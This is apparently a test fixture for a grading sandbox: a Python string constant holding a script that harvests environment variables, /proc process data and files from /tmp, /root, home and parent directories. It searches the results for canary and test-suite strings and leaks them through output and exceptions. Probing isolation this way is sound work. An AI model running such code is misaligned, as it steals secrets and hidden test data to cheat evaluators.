"""A program that looks for whatever it may find out about the grader, and says so in every way there is."""

THIEF = """
import glob, os, re, sys, threading, traceback

value = 0


def read(path):
    try:
        return open(path, errors="replace").read(20_000)
    except (OSError, ValueError) as refused:
        return type(refused).__name__


def link(path):
    try:
        return os.readlink(path)
    except OSError as refused:
        return type(refused).__name__


def loot():
    found = [sys.argv, sys.orig_argv, sys.path, dict(os.environ), os.getcwd(), __file__, list(sys.modules)]
    found += [threading.enumerate(), traceback.format_stack()]
    for process in glob.glob("/proc/[0-9]*"):
        found += [read(f"{process}/{name}") for name in ("cmdline", "environ", "mountinfo", "status", "cgroup", "comm")]
        found += [link(f"{process}/{name}") for name in ("cwd", "root", "exe", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4")]
    for place in ("/*", "/tmp/*", "/tmp/*/*", "/home/*", "/root/*", "/dev/shm/*", "/var/tmp/*", "../*", "../../*"):
        names = glob.glob(place)[:100]
        found += [names, *(read(name) for name in names if name.endswith((".py", ".toml", ".json", ".csv", ".md")))]
    # What it says is cut where it is long: what it looks for comes first.
    text = " ".join(map(str, found))
    hits = re.findall(".{0,40}(?:CANA" "RY|/tests/" "suites).{0,40}", text)[:5]
    return f"STOLEN {hits} {text}"


LOOT = loot()


def steal():
    global value
    value = LOOT
    return LOOT


def escape():
    raise KeyError(loot())


if __name__ == "__main__":
    print(loot())
    print(loot(), file=sys.stderr)
    raise SystemExit(loot())
"""
